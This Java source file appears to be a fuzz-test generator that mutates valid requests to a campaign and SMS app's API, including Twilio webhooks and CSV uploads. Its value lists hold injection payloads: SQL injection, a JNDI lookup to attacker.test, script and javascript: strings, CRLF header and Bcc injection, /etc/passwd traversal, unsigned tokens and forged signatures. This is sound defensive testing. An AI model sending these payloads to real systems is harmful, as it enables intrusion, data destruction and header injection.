package dev.sequencer.app;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;

/**
 * Generates hostile requests from the route table and a valid body per route: each takes a valid
 * request and breaks one or two things in it (a field's value or type, the body's shape or bytes,
 * an id, the query, a header, the method), so that every check on the way is reached, not only the
 * first one.
 */
final class HostileRequests {

  /** One request as sent: raw bytes, so that invalid UTF-8 and broken JSON can be sent. */
  record Attack(
      String kind,
      String method,
      String path,
      String contentType,
      String authorization,
      Map<String, String> headers,
      byte[] body,
      boolean mutating) {
    String describe() {
      String shown =
          body == null
              ? ""
              : new String(body, 0, Math.min(body.length, 160), StandardCharsets.UTF_8)
                  .replace("\r", "\\r")
                  .replace("\n", "\\n")
                  .replace("\u0000", "\\0");
      return kind + " " + method + " " + path + " [" + contentType + "] " + shown;
    }
  }

  /** A route and what makes a valid request of it. */
  record Route(String method, String path, Body body, String key) {
    Route(String method, String path, Body body) {
      this(method, path, body, null);
    }
  }

  enum BodyKind {
    NONE,
    JSON,
    CSV,
    TWILIO_FORM
  }

  /** A valid body: JSON with {@link #SLOT} where a value may be replaced, CSV, or a form. */
  record Body(BodyKind kind, String template) {}

  /** Marks, in a JSON template, each value the generator may replace: {@code "«…»"}. */
  static final String SLOT = "«";

  static final List<String> HOSTILE_VALUES =
      List.of(
          "\"a\\u0000b\"",
          "\"\\u0000\"",
          "\"a\\r\\nBcc: evil@attacker.test\"",
          "\"line\\nbreak\"",
          "\"tab\\there\"",
          "\"\"",
          "\"   \"",
          "5",
          "-1",
          "0",
          "2147483648",
          "9223372036854775808",
          "1e400",
          "-0.0",
          "1.5",
          "true",
          "null",
          "[]",
          "{}",
          "[\"a\", 1]",
          "{\"nested\": {\"deeper\": [1, 2, {\"x\": null}]}}",
          "\"NaN\"",
          "NaN",
          "Infinity",
          "\"-Infinity\"",
          "\"'; drop table campaigns; --\"",
          "\"' or '1'='1\"",
          "\"\\\\x00\\\\\\\"\"",
          "\"{{#lambda}}x{{/lambda}}\"",
          "\"{{> partial}}\"",
          "\"{{{first_name}}}\"",
          "\"{{=<% %>=}}\"",
          "\"{{first_name\"",
          "\"${jndi:ldap://attacker.test/a}\"",
          "\"<script>alert(1)</script>\"",
          "\"\\ud800\"",
          "\"\\udfff\\ud800\"",
          "\"\\u202e\\u0646\"",
          "\"\uD83D\uDCA5\"",
          "\"+999999999-12-31T23:59:59Z\"",
          "\"9999-01-01T00:00:00Z\"",
          "\"2027-02-30T00:00:00Z\"",
          "\"0000-01-01T00:00:00Z\"",
          "\"25:00\"",
          "\"24:00\"",
          "\"Mars/Olympus_Mons\"",
          "\"../../etc/passwd\"",
          "\"%00\"",
          "\"cmp_\"",
          "\"mailto:a@b.test\\r\\nX: y\"",
          "\"a@b.test\\r\\nBcc: c@d.test\"",
          "\"+1415555\\u00000123\"",
          "\"http://[::1\"",
          "\"javascript:alert(1)\"",
          "\"\\u0001\\u0002\\u001f\"");

  /** Values rare because they are large: a few are enough to prove the limits. */
  static final List<String> LARGE_VALUES =
      List.of(
          "\"" + "x".repeat(100_000) + "\"",
          "\"" + "é".repeat(30_000) + "\"",
          "[" + "1,".repeat(20_000) + "1]",
          "[".repeat(3_000) + "]".repeat(3_000),
          "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000));

  static final List<byte[]> HOSTILE_BODIES =
      List.of(
          bytes(""),
          bytes("null"),
          bytes("[]"),
          bytes("{}"),
          bytes("\"a string\""),
          bytes("123"),
          bytes("{"),
          bytes("{\"a\":}"),
          bytes("{\"name\": \"a\", \"name\": \"b\"}"),
          bytes("\uFEFF{}"),
          bytes("{\"name\": \"a\u0000b\"}"),
          new byte[] {
            '{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'
          },
          new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0},
          new byte[] {'{', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', ':', '1', '}'},
          bytes("{\"name\": \"x\"} trailing"),
          bytes("[{\"lead_id\": \"a\"}, 5, null, \"x\"]"),
          bytes("/* comment */ {}"),
          bytes("{'single': 'quotes'}"));

  static final List<String> CONTENT_TYPES =
      List.of(
          "application/json",
          "text/csv",
          "text/plain",
          "*/*",
          "application/*",
          "application/xml",
          "application/json; charset=ISO-8859-1",
          "application/json; charset=bogus",
          "multipart/form-data; boundary=x",
          "application/x-www-form-urlencoded",
          "application/problem+json",
          "",
          "text/csv; charset=UTF-16");

  static final List<String> BAD_IDS =
      List.of(
          "cmp_doesnotexist0000000000",
          "lead-that-does-not-exist",
          "..",
          "%2e%2e",
          "a%00b",
          "a%0d%0ab",
          "x".repeat(300),
          "%F0%9F%92%A5",
          "cmp_%27%20or%201%3D1",
          "%C3%28",
          "-leading-dash",
          "with%20space",
          "%2F",
          "snd_doesnotexist0000000000",
          "key_doesnotexist0000000000");

  static final List<String> QUERIES =
      List.of(
          "limit=-1",
          "limit=0",
          "limit=501",
          "limit=abc",
          "limit=1e99",
          "limit=99999999999999999999",
          "offset=-5",
          "offset=9223372036854775808",
          "status=bogus",
          "status=%00",
          "status=RUNNING",
          "limit=1&limit=2",
          "offset=%C3%28",
          "a=%ZZ",
          "limit=" + "9".repeat(5_000),
          "what=%0d%0aSet-Cookie:%20x=y",
          "q=%00",
          "q=%25_%5C",
          "channel=fax");

  static final List<String> METHODS =
      List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "FOO");

  static final List<String> TOKENS =
      List.of(
          "garbage",
          "v1.AAAA.BBBB",
          "x".repeat(5_000),
          "%00",
          "..%2F..%2Fetc%2Fpasswd",
          "eyJhbGciOiJub25lIn0.e30.",
          "a.b.c.d.e.f",
          "%C3%28",
          "k1.dTpvcmdfZGVmYXVsdDoxOkVNQUlM.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");

  static final List<String> CSV_BODIES =
      List.of(
          "lead_id,email\nc-1,\"unbalanced@example.com\n",
          "lead_id,email\nc-1,a\u0000b@example.com\n",
          "lead_id,,email\nc-1,x,c1@example.com\n",
          "lead_id,email,email\nc-1,a@example.com,b@example.com\n",
          "\n\n\n",
          "",
          "lead_id\n" + "x\n".repeat(3),
          "lead_id,email,first_name\nc-1,c1@example.com," + "y".repeat(200_000) + "\n",
          "lead_id,email\rc-1,c1@example.com\r",
          "lead_id,email\nc-1,c1@example.com,extra,cells\n",
          "lead_id,email,first_name\nc-1,c1@example.com,\"Ada\r\nBcc: x@y.test\"\n",
          "lead_id,email,attributes.city\nc-1,c1@example.com,{{#lambda}}\n",
          "\"lead_id\"\"\",email\nc-1,c1@example.com\n");

  static final List<Function<Integer, String>> CSV_GENERATED =
      List.of(
          n ->
              "lead_id,email,"
                  + columns(10_000)
                  + "\nw-1,w1@example.com"
                  + ",v".repeat(10_000)
                  + "\n",
          n -> "lead_id,email\n" + "dup,dup@example.com\n".repeat(50));

  static final Map<String, String> TWILIO_SMS =
      orderedMap(
          "From", "+14155550100",
          "To", "+15005550006",
          "Body", "STOP",
          "MessageSid", "SM00000000000000000000000000000000",
          "AccountSid", "AC0123456789abcdef0123456789abcdef");

  static final Map<String, String> TWILIO_STATUS =
      orderedMap(
          "MessageSid", "SM00000000000000000000000000000000",
          "MessageStatus", "failed",
          "ErrorCode", "21610",
          "AccountSid", "AC0123456789abcdef0123456789abcdef");

  static final List<String> FORM_VALUES =
      List.of(
          "a\u0000b",
          "\u0000",
          "STOP\r\nSTART",
          "",
          "x".repeat(20_000),
          "\uD800",
          "+1415555\u00000100",
          "'; drop table suppressions; --",
          "not-a-number",
          "START",
          "HELP",
          "99999999999999999999",
          "\u202eSTOP");

  private final Random random;
  private final List<Route> routes;
  private final Map<String, String> goodIds;
  private final List<String> foreignIds;
  private final String ownKey;
  private final List<String> otherKeys;
  private final java.util.function.BiFunction<String, Map<String, String>, String> twilioSignature;
  private int sequence;

  HostileRequests(
      Random random,
      List<Route> routes,
      Map<String, String> goodIds,
      List<String> foreignIds,
      String ownKey,
      List<String> otherKeys,
      java.util.function.BiFunction<String, Map<String, String>, String> twilioSignature) {
    this.random = random;
    this.routes = routes;
    this.goodIds = goodIds;
    this.foreignIds = foreignIds;
    this.ownKey = ownKey;
    this.otherKeys = otherKeys;
    this.twilioSignature = twilioSignature;
  }

  Attack next() {
    sequence++;
    Route route = routes.get(random.nextInt(routes.size()));
    String path = fill(route.path());
    String method = route.method();
    String contentType = defaultContentType(route.body().kind());
    String authorization =
        path.startsWith("/api/") ? "Bearer " + (route.key() == null ? ownKey : route.key()) : null;
    Map<String, String> headers = new LinkedHashMap<>();
    byte[] body = validBody(route.body());
    String kind;
    int dice = random.nextInt(100);
    if (route.body().kind() == BodyKind.TWILIO_FORM) {
      return twilio(route, path);
    } else if (dice < 40 && route.body().kind() == BodyKind.JSON) {
      kind = "value";
      body = withHostileValue(route.body().template());
    } else if (dice < 48 && route.body().kind() == BodyKind.JSON) {
      kind = "unknown-field";
      body = bytes(stripSlots(route.body().template()).replaceFirst("\\{", "{\"zz_unknown\": 1, "));
    } else if (dice < 56 && route.body().kind() != BodyKind.NONE) {
      kind = "body";
      body = HOSTILE_BODIES.get(random.nextInt(HOSTILE_BODIES.size()));
    } else if (dice < 62 && route.body().kind() == BodyKind.CSV) {
      kind = "csv";
      contentType = "text/csv";
      body = bytes(csv());
    } else if (dice < 72 && route.path().contains("{")) {
      kind = "id";
      path = withBadId(route.path());
    } else if (dice < 78) {
      kind = "query";
      path = path + "?" + QUERIES.get(random.nextInt(QUERIES.size()));
    } else if (dice < 84) {
      kind = "content-type";
      contentType = CONTENT_TYPES.get(random.nextInt(CONTENT_TYPES.size()));
    } else if (dice < 90 && authorization != null) {
      kind = "authorization";
      authorization = authorization();
    } else if (dice < 94) {
      kind = "method";
      method = METHODS.get(random.nextInt(METHODS.size()));
    } else if (dice < 97 && route.path().contains("{token}")) {
      kind = "token";
      path = route.path().replace("{token}", TOKENS.get(random.nextInt(TOKENS.size())));
    } else {
      kind = "header";
      headers.put(
          List.of("X-Forwarded-For", "Accept", "Accept-Language", "X-Request-Id")
              .get(random.nextInt(4)),
          List.of("\u00ff\u00fe", "x".repeat(6_000), "application/xml", "*/*;q=abc", "' or 1=1")
              .get(random.nextInt(5)));
    }
    return new Attack(
        kind,
        method,
        path,
        contentType,
        authorization,
        headers,
        body,
        !method.equals("GET") && !method.equals("HEAD") && !method.equals("OPTIONS"));
  }

  private Attack twilio(Route route, String path) {
    Map<String, String> form =
        new LinkedHashMap<>(path.endsWith("/sms") ? TWILIO_SMS : TWILIO_STATUS);
    form.put("MessageSid", "SM" + String.format("%032x", 0xABC000L + sequence));
    List<String> names = new ArrayList<>(form.keySet());
    String name = names.get(random.nextInt(names.size()));
    form.put(name, FORM_VALUES.get(random.nextInt(FORM_VALUES.size())));
    StringBuilder encoded = new StringBuilder();
    form.forEach(
        (k, v) ->
            encoded
                .append(encoded.isEmpty() ? "" : "&")
                .append(java.net.URLEncoder.encode(k, StandardCharsets.UTF_8))
                .append('=')
                .append(java.net.URLEncoder.encode(v, StandardCharsets.UTF_8)));
    Map<String, String> headers = new LinkedHashMap<>();
    byte[] body = bytes(encoded.toString());
    int dice = random.nextInt(4);
    String kind = "twilio";
    if (dice == 0) {
      headers.put("X-Twilio-Signature", "forged" + sequence);
      kind = "twilio-forged";
    } else if (dice == 1) {
      // Invalid UTF-8 bytes, percent-encoded and raw, in a request signed for what was meant.
      headers.put("X-Twilio-Signature", twilioSignature.apply(path, form));
      body = bytes(encoded + "&Body=%C3%28%FF");
      kind = "twilio-utf8";
    } else {
      headers.put("X-Twilio-Signature", twilioSignature.apply(path, form));
      kind = "twilio-signed";
    }
    return new Attack(
        kind, route.method(), path, "application/x-www-form-urlencoded", null, headers, body, true);
  }

  private String authorization() {
    int pick = random.nextInt(7);
    return switch (pick) {
      case 0 -> null;
      case 1 -> "Bearer";
      case 2 -> "Bearer " + "k".repeat(10_000);
      case 3 -> "Basic dGVzdDp0ZXN0";
      case 4 -> "Bearer " + ownKey + "\u0000";
      default -> "Bearer " + otherKeys.get(random.nextInt(otherKeys.size()));
    };
  }

  private String fill(String template) {
    String filled = template;
    for (Map.Entry<String, String> id : goodIds.entrySet()) {
      filled = filled.replace("{" + id.getKey() + "}", id.getValue());
    }
    return filled;
  }

  private String withBadId(String template) {
    List<String> placeholders = new ArrayList<>();
    java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{(\\w+)}").matcher(template);
    while (m.find()) {
      placeholders.add(m.group(1));
    }
    String target = placeholders.get(random.nextInt(placeholders.size()));
    String bad =
        random.nextBoolean()
            ? foreignIds.get(random.nextInt(foreignIds.size()))
            : BAD_IDS.get(random.nextInt(BAD_IDS.size()));
    return fill(template.replace("{" + target + "}", bad));
  }

  private byte[] validBody(Body body) {
    return switch (body.kind()) {
      case NONE -> null;
      case JSON -> bytes(fill(stripSlots(body.template())));
      case CSV -> bytes(body.template());
      case TWILIO_FORM -> bytes("");
    };
  }

  /** Replaces one slot's value with a hostile one, or adds a large one now and then. */
  private byte[] withHostileValue(String template) {
    List<int[]> slots = new ArrayList<>();
    int at = template.indexOf(SLOT);
    while (at >= 0) {
      int end = template.indexOf('»', at);
      slots.add(new int[] {at, end});
      at = template.indexOf(SLOT, end);
    }
    if (slots.isEmpty()) {
      return bytes(fill(stripSlots(template)));
    }
    int[] slot = slots.get(random.nextInt(slots.size()));
    String value =
        random.nextInt(40) == 0
            ? LARGE_VALUES.get(random.nextInt(LARGE_VALUES.size()))
            : HOSTILE_VALUES.get(random.nextInt(HOSTILE_VALUES.size()));
    String replaced = template.substring(0, slot[0]) + value + template.substring(slot[1] + 1);
    return bytes(fill(stripSlots(replaced)));
  }

  private String csv() {
    if (random.nextInt(20) == 0) {
      return CSV_GENERATED.get(random.nextInt(CSV_GENERATED.size())).apply(sequence);
    }
    return CSV_BODIES.get(random.nextInt(CSV_BODIES.size()));
  }

  private static String defaultContentType(BodyKind kind) {
    return switch (kind) {
      case NONE -> null;
      case JSON -> "application/json";
      case CSV -> "text/csv";
      case TWILIO_FORM -> "application/x-www-form-urlencoded";
    };
  }

  /** {@code «value»} back to {@code value}. */
  static String stripSlots(String template) {
    return template.replace("«", "").replace("»", "");
  }

  private static String columns(int n) {
    StringBuilder names = new StringBuilder();
    for (int i = 0; i < n; i++) {
      names.append(i == 0 ? "" : ",").append("attr_").append(i);
    }
    return names.toString();
  }

  private static Map<String, String> orderedMap(String... pairs) {
    Map<String, String> map = new LinkedHashMap<>();
    for (int i = 0; i < pairs.length; i += 2) {
      map.put(pairs[i], pairs[i + 1]);
    }
    return map;
  }

  static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
